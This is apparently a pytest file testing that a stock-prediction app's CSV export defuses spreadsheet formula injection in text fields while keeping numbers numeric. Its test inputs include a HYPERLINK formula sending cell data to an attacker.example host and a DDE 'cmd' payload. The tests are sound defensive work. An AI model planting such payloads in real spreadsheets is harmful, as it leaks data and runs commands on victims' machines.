"""The CSV export neutralises spreadsheet formulas in text cells and keeps numbers numeric."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from stocky.pipelines.export import EXPORT_COLUMNS, neutralise_formula, write_predictions_csv

ROW = {
    "id": 7,
    "created_at": dt.datetime(2024, 7, 3, 21, 30, tzinfo=dt.UTC),
    "ticker": "^GSPC",
    "as_of": dt.date(2024, 7, 3),
    "target_date": dt.date(2024, 7, 5),
    "prediction": 5537.5,
    "lower": 5400.25,
    "upper": 5675.0,
    "naive": 5537.0,
    "actual": 5567.19,
    "error": -29.69,
    "abs_error": 29.69,
    "sq_error": 881.5,
    "naive_error": -30.19,
    "history_len": 60,
    "arima_order": "(0, 1, 1)",
    "model_name": "stocky-^GSPC",
    "model_version": 3,
    "input_hash": "ab12",
    "request_id": "client-1",
    "source": "api",
    "actual_at": None,
}


def _export(**changes: object) -> dict[str, str]:
    out = io.StringIO()
    assert write_predictions_csv([{**ROW, **changes}], out) == 1
    records = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(records) == 1
    assert list(records[0]) == list(EXPORT_COLUMNS)
    return records[0]


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_formula_in_a_request_id_is_exported_as_text(hostile: str):
    record = _export(request_id=hostile)
    assert record["request_id"] == "'" + hostile


def test_formula_in_other_text_columns_is_neutralised():
    record = _export(ticker="=A1", source="@x", model_name="+y")
    assert (record["ticker"], record["source"], record["model_name"]) == ("'=A1", "'@x", "'+y")


def test_plain_text_and_numbers_are_unchanged():
    record = _export()
    assert record["request_id"] == "client-1"
    assert record["ticker"] == "^GSPC"
    assert record["arima_order"] == "(0, 1, 1)"
    # a negative number starts with "-" but is a number: no quote, still parses as a float
    assert record["error"] == "-29.69"
    assert float(record["naive_error"]) == -30.19
    assert record["model_version"] == "3"
    assert record["timestamp"] == "2024-07-03T21:30:00+00:00"
    assert record["actual_at"] == ""


def test_neutralise_formula_leaves_safe_text_alone():
    assert neutralise_formula("abc-=+@") == "abc-=+@"
    assert neutralise_formula("") == ""
    assert neutralise_formula("-") == "'-"
